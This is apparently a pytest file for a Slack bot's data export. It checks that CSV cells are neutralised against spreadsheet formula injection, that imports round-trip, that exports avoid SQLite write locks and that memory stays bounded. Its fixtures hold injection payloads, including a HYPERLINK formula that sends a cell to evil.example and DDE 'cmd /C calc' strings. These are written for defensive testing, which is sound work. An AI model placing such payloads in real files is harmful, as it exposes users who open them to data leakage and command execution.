"""Exports are safe to open (no formula runs in a spreadsheet) and safe to run (no write lock,
rows streamed), and say which record each row is, who logged it and when."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.engine import make_url
from sqlmodel import Session

from bot import cli
from bot.core.services import Services
from bot.core.settings import Settings
from handlers.commands import export_command
from handlers.router import CommandRequest, Deferred
from store import records, transfer
from store.db import make_engine, session_scope, upgrade
from store.schemas import CommitmentIn, InitiativeIn, ProjectIn
from store.visibility import EVERYTHING

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "operator": "+1 555 0100",
    "region": "-2+3+cmd|' /C calc'!A0",
    "capacity_unit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "\t=1+1",
}


def _hostile_records(session: Session, *, leading_whitespace: bool = True) -> None:
    records.create_initiative(
        session,
        InitiativeIn(name="Partnership, for minerals", short_name="PfM"),
        actor="U1",
        provenance={"logged_by": "U1"},
        now=datetime.now(UTC),
    )
    project = records.create_project(
        session,
        ProjectIn(**HOSTILE, minerals=["graphite", "lithium"], initiatives=["Partnership, for minerals"]),
        actor="U1",
        provenance={"logged_by": "U1"},
        audience=EVERYTHING,
        now=datetime.now(UTC),
    )
    if leading_whitespace:  # forms and imports strip it; rows stored otherwise may have it
        project.description = HOSTILE["description"]
    commitment = records.create_commitment(
        session,
        CommitmentIn(
            actor="Japan",
            instrument="loan",
            amount=Decimal("1000"),
            currency="USD",
            counterparty="'=already quoted",
            statement="\r=cmd",
            project=HOSTILE["name"],
        ),
        actor="U1",
        provenance={"source_message": "C1:1.0", "logged_by": "U1"},
        audience=EVERYTHING,
        now=datetime.now(UTC),
    )
    if leading_whitespace:
        commitment.statement = "\r=cmd"
    session.commit()


def _csv(session: Session, kind: str) -> list[dict[str, str]]:
    out = io.StringIO()
    transfer.write_export(session, out, kind, audience=EVERYTHING)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-5", "'-5"),  # text that looks like a number is still text
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # an apostrophe already there survives the round trip
        ("'plain", "'plain"),
        ("plain = fine", "plain = fine"),
        (Decimal("1000.00"), "1000.00"),
        (Decimal("-5.50"), "-5.50"),  # a number stays a number, negative too
        (-3, "-3"),
        (Decimal("1E+3"), "'1E+3"),  # not a plain number: written as text
        (["a, b", "=c"], '["a, b", "=c"]'),
        ([], ""),
        (None, ""),
        (True, "true"),
    ],
)
def test_csv_cell(value: Any, cell: str):
    assert transfer.csv_cell(value) == cell


def test_csv_exports_neutralise_formulas_and_json_stays_exact(session: Session):
    _hostile_records(session)
    [project] = _csv(session, "projects")
    for column, value in HOSTILE.items():
        assert project[column] == "'" + value
    assert json.loads(project["minerals"]) == ["graphite", "lithium"]
    assert json.loads(project["initiatives"]) == ["Partnership, for minerals"]
    [commitment] = _csv(session, "commitments")
    assert commitment["project"] == "'" + HOSTILE["name"]
    assert commitment["counterparty"] == "''=already quoted"
    assert commitment["statement"] == "'\r=cmd"
    assert commitment["amount"] == "1000.00" and commitment["usd_estimate"] == "1000.00"
    # No cell of any export starts a formula.
    for kind in transfer.ORDER:
        for row in _csv(session, kind):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values())

    out = io.StringIO()
    transfer.write_export(session, out, "all", audience=EVERYTHING, fmt="json")
    data = json.loads(out.getvalue())
    assert {k: data["projects"][0][k] for k in HOSTILE} == HOSTILE
    assert data["commitments"][0]["counterparty"] == "'=already quoted"


def test_neutralised_csv_imports_back_exactly(session: Session, session_factory, tmp_path: Path):
    _hostile_records(session, leading_whitespace=False)
    for kind in transfer.ORDER:
        with (tmp_path / f"{kind}.csv").open("w", encoding="utf-8", newline="") as out:
            transfer.write_export(session, out, kind, audience=EVERYTHING)
    with session_factory() as other:
        for kind in transfer.ORDER:
            transfer.import_rows(
                other,
                transfer.read_file(tmp_path / f"{kind}.csv"),
                actor="cli",
                audience=EVERYTHING,
                now=datetime.now(UTC),
            )
        other.commit()
        for kind in transfer.ORDER:
            mine = {"id", "logged_by", "created_at"}
            assert [
                {k: v for k, v in r.items() if k not in mine}
                for r in transfer.export_rows(other, kind, audience=EVERYTHING)
            ] == [
                {k: v for k, v in r.items() if k not in mine}
                for r in transfer.export_rows(session, kind, audience=EVERYTHING)
            ]


def test_exports_say_which_record_who_logged_it_and_when(session: Session):
    _hostile_records(session)
    for kind in transfer.ORDER:
        out = io.StringIO()
        transfer.write_export(session, out, kind, audience=EVERYTHING)
        header = out.getvalue().splitlines()[0].split(",")
        assert header[-3:] == ["id", "logged_by", "created_at"]
        [row] = transfer.export_rows(session, kind, audience=EVERYTHING)
        assert row["id"] == 1 and row["logged_by"] == "U1" and row["created_at"].startswith("20")


def test_streamed_batches_give_every_row_in_order(demo_session: Session):
    for kind in transfer.ORDER:
        whole = list(transfer.iter_rows(demo_session, kind, audience=EVERYTHING))
        assert len(whole) >= 2
        assert list(transfer.iter_rows(demo_session, kind, audience=EVERYTHING, batch_size=1)) == whole
    # Initiative links are read per batch of projects, and still attached to the right one.
    linked = {
        r["name"]: r["initiatives"] for r in transfer.iter_rows(demo_session, "projects", audience=EVERYTHING)
    }
    assert any(linked.values())


# --- No write lock: an export runs while another connection is writing (SQLite) ---


@pytest.fixture
def sqlite_demo(tmp_path: Path) -> str:
    from store.seed import seed_demo

    url = f"sqlite:///{tmp_path / 'minerals.db'}"
    upgrade(url)
    engine = make_engine(url)
    with session_scope(engine) as s:
        seed_demo(s, now=datetime.now(UTC))
    engine.dispose()
    return url


@pytest.fixture
def writer_holds_the_lock(sqlite_demo: str):
    """Another connection in the middle of a write transaction, as a click being stored."""
    conn = sqlite3.connect(make_url(sqlite_demo).database, isolation_level=None, timeout=0.1)
    conn.execute("BEGIN IMMEDIATE")
    conn.execute("UPDATE commitment SET statement = statement")
    yield
    conn.execute("ROLLBACK")
    conn.close()


def test_cli_export_runs_while_another_connection_holds_the_write_lock(
    sqlite_demo: str, writer_holds_the_lock: None, monkeypatch, tmp_path: Path, capsys
):
    monkeypatch.setattr(cli, "load_settings", lambda: Settings(_env_file=None, database_url=sqlite_demo))  # type: ignore[call-arg]
    out = tmp_path / "commitments.csv"
    assert cli.main(["export", "commitments", "--out", str(out)]) == 0
    assert len(list(csv.DictReader(out.open(newline="")))) > 5
    assert cli.main(["export", "all", "--format", "json"]) == 0
    written, _, exported = capsys.readouterr().out.partition("\n")
    assert written.startswith("Wrote ") and f" to {out} in " in written
    assert len(json.loads(exported)["projects"]) > 2


def test_slack_export_runs_while_another_connection_holds_the_write_lock(
    sqlite_demo: str, writer_holds_the_lock: None
):
    engine = make_engine(sqlite_demo)
    services = Services(Settings(_env_file=None, database_url=sqlite_demo), engine)  # type: ignore[call-arg]

    class Client:
        uploads: list[dict[str, Any]] = []

        def conversations_open(self, users: str) -> dict[str, Any]:
            return {"channel": {"id": "D1"}}

        def files_upload_v2(self, **kwargs: Any) -> None:
            self.uploads.append(kwargs)

    outcome = export_command(services, CommandRequest("/minerals", "export commitments", "U1", "C1"))
    assert isinstance(outcome, Deferred)
    client = Client()
    reply = outcome.work(client)
    engine.dispose()
    assert reply is not None and "Sent minerals-commitments" in reply.text
    [upload] = client.uploads
    rows = list(csv.DictReader(io.StringIO(upload["content"].decode(), newline="")))
    assert upload["initial_comment"] == f"{len(rows)} commitments." and len(rows) > 5


def test_export_to_a_file_leaves_no_half_file_on_failure(session: Session, tmp_path: Path):
    _hostile_records(session)
    folder = tmp_path / "out"
    folder.mkdir()
    with pytest.raises(ValueError, match="CSV holds one kind"):
        transfer.export_to_path(session, folder / "x.csv", "all", audience=EVERYTHING)
    assert list(folder.iterdir()) == []
    assert transfer.export_to_path(session, folder / "x.csv", "projects", audience=EVERYTHING) == {
        "projects": 1
    }
    assert [p.name for p in folder.iterdir()] == ["x.csv"]


# --- Bounded memory: 100,000 commitments (release suite) ---


@pytest.mark.slow
def test_export_of_100000_commitments_stays_under_50_mb(db_url: str, tmp_path: Path):
    from tests.store import export_memory

    engine = make_engine(db_url)
    export_memory.seed(engine, 100_000)
    engine.dispose()
    for fmt in ("csv", "json"):
        result = export_memory.measure_in_subprocess(db_url, tmp_path / f"out.{fmt}", fmt)
        print(result)
        assert result["rows"] >= 100_000
        assert result["peak_traced_mb"] < 50, result
        assert result["rss_growth_mb"] < 50, result
